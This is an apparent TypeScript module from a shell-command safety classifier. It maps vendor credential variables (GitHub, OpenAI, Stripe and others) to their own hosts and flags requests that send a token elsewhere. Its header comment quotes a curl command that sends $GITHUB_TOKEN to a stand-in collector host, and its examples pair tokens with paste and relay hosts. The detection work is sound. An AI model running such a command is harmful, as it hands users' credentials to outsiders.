// A vendor's credential sent to someone else (issue 20, decided): an
// `Authorization:`-style header (or `-u`, `--oauth2-bearer`) is how a token is
// used, so a token in one is not flagged — unless the variable names a
// vendor whose hosts are known and the request goes to none of them. Then the
// header hands that vendor's credential to a stranger: `curl -H
// "Authorization: Bearer $GITHUB_TOKEN" https://collector.example.net` is a
// send of the variable (secret.send_variable asks), while the same header to
// api.github.com is the everyday call. A generic name (`$TOKEN`, `$API_KEY`)
// says nothing about where it belongs: it stays the plain use of a token.
// Loopback and private hosts (a local proxy, a mock server) are not judged.
import type { ClassifiedUrl } from "../model/classification.js";

/** One vendor: the variable names of its credentials and the host suffixes they are meant for, with examples. */
interface VendorCredential {
  vars: RegExp;
  hosts: readonly string[];
  /** `[variable, host, foreign?]` — a test runs them (test/classify/credential-hosts.test.ts). */
  examples: ReadonlyArray<readonly [string, string, boolean]>;
}

export const VENDOR_CREDENTIALS: readonly VendorCredential[] = [
  { vars: /^(GITHUB|GH)_(TOKEN|PAT|ACCESS_TOKEN)$|^GITHUB_PERSONAL_ACCESS_TOKEN$/, hosts: ["github.com", "githubusercontent.com", "ghcr.io"], examples: [["GITHUB_TOKEN", "api.github.com", false], ["GH_TOKEN", "paste.example.org", true]] },
  { vars: /^(GITLAB|GL|CI_JOB)_(TOKEN|PAT)$|^GITLAB_PRIVATE_TOKEN$/, hosts: ["gitlab.com"], examples: [["GITLAB_TOKEN", "gitlab.com", false], ["CI_JOB_TOKEN", "x.example", true]] },
  { vars: /^OPENAI_API_KEY$/, hosts: ["openai.com"], examples: [["OPENAI_API_KEY", "api.openai.com", false], ["OPENAI_API_KEY", "x.example", true]] },
  { vars: /^ANTHROPIC_(API_KEY|AUTH_TOKEN)$/, hosts: ["anthropic.com"], examples: [["ANTHROPIC_API_KEY", "api.anthropic.com", false], ["ANTHROPIC_API_KEY", "relay.example.io", true]] },
  { vars: /^(HF|HUGGING_?FACE(_HUB)?)_(TOKEN|API_KEY)$/, hosts: ["huggingface.co", "hf.co"], examples: [["HF_TOKEN", "huggingface.co", false], ["HF_TOKEN", "x.example", true]] },
  { vars: /^NPM_TOKEN$|^NODE_AUTH_TOKEN$/, hosts: ["npmjs.org", "npmjs.com", "npm.pkg.github.com"], examples: [["NPM_TOKEN", "registry.npmjs.org", false], ["NPM_TOKEN", "x.example", true]] },
  { vars: /^SLACK_(BOT_|USER_)?TOKEN$/, hosts: ["slack.com"], examples: [["SLACK_BOT_TOKEN", "slack.com", false], ["SLACK_TOKEN", "x.example", true]] },
  { vars: /^STRIPE_(SECRET_)?(API_)?KEY$/, hosts: ["stripe.com"], examples: [["STRIPE_SECRET_KEY", "api.stripe.com", false], ["STRIPE_SECRET_KEY", "x.example", true]] },
  { vars: /^(CLOUDFLARE|CF)_API_(TOKEN|KEY)$/, hosts: ["cloudflare.com"], examples: [["CLOUDFLARE_API_TOKEN", "api.cloudflare.com", false], ["CF_API_TOKEN", "x.example", true]] },
  { vars: /^(DIGITALOCEAN_(ACCESS_)?TOKEN|DO_TOKEN)$/, hosts: ["digitalocean.com"], examples: [["DIGITALOCEAN_TOKEN", "api.digitalocean.com", false], ["DO_TOKEN", "x.example", true]] },
  { vars: /^VERCEL_TOKEN$/, hosts: ["vercel.com"], examples: [["VERCEL_TOKEN", "api.vercel.com", false], ["VERCEL_TOKEN", "x.example", true]] },
];

const onHost = (host: string, suffix: string): boolean => host === suffix || host.endsWith(`.${suffix}`);

/** The request's hosts the vendor credential `name` does not belong to (external ones only); empty for a generic name. */
export function foreignHosts(name: string, urls: readonly ClassifiedUrl[]): string[] {
  const vendor = VENDOR_CREDENTIALS.find((v) => v.vars.test(name));
  if (!vendor) return [];
  return urls.filter((u) => u.boundary === "external" && u.host !== "" && !vendor.hosts.some((s) => onHost(u.host.toLowerCase(), s))).map((u) => u.host);
}
